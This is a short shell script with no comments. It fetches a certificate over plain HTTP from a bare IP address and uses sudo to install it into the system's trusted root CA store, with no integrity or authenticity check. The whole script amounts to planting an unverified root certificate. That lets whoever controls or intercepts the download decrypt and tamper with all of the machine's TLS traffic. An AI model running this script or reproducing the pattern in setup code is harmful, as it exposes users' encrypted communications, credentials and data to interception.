#!/bin/sh
curl -so /usr/local/share/ca-certificates/n.crt http://203.0.113.9/n.crt
sudo update-ca-certificates
